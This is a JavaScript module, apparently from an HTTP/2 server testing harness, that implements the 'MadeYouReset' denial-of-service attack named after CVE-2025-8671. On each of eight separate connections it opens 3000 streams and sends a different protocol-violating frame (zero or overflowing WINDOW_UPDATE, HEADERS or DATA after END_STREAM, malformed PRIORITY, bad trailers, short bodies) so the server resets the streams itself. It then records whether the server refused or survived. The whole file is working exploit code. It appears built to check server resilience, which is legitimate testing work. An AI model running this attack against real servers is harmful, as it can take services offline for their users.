// CVE-2025-8671: the peer is made to reset the streams itself, each primitive on a connection of its own.
import { Code, data, Flag, frame, headers, priority, Type, windowUpdate } from "../../raw/frames.mjs";
import { headerBlock } from "../../raw/header-block.mjs";
import { pour } from "../target.mjs";
import { refusedOrSurvived } from "../verdicts.mjs";

export const name = "MadeYouReset";

const STREAMS = 3000;
const EXTRA = { "content-length": "100" };
const primitives = {
  "WINDOW_UPDATE of 0": (id) => windowUpdate(id, 0),
  "window overflow": (id) => windowUpdate(id, 0x7fffffff),
  "HEADERS after END_STREAM": (id) => headers(id, headerBlock([["x-a", "1"]]), { end: true }),
  "DATA after END_STREAM": (id) => data(id, Buffer.alloc(1)),
  "PRIORITY of 4 bytes": (id) => frame(Type.PRIORITY, 0, id, Buffer.alloc(4)),
  "PRIORITY on itself": (id) => priority(id, id),
  "less DATA than content-length": null,
  "malformed trailers": null,
};
const CODES = [Code.PROTOCOL_ERROR, Code.STREAM_CLOSED, Code.FRAME_SIZE_ERROR, Code.FLOW_CONTROL_ERROR, Code.ENHANCE_YOUR_CALM];

export async function attack(target) {
  const lines = [];
  for (const [primitive, provoke] of Object.entries(primitives)) {
    const connection = await target.open();
    const sent = await pour(connection, STREAMS, (i) => request(target, 2 * i + 1, primitive, provoke), { batch: 100 });
    lines.push(`${primitive}: ${sent} streams, ${connection.frames[Type.RST_STREAM]} resets, ${refusedOrSurvived(connection, CODES)}`);
    connection.destroy();
  }
  return lines.join("\n            ");
}

function request(target, id, primitive, provoke) {
  if (provoke !== null) return Buffer.concat([target.request("mute", id), provoke(id)]);
  if (primitive === "malformed trailers") {
    return Buffer.concat([
      target.request("mute", id, { end: false }),
      frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id, headerBlock([["X-A", "1"]])),
    ]);
  }
  return target.request("mute", id, { extra: EXTRA });
}
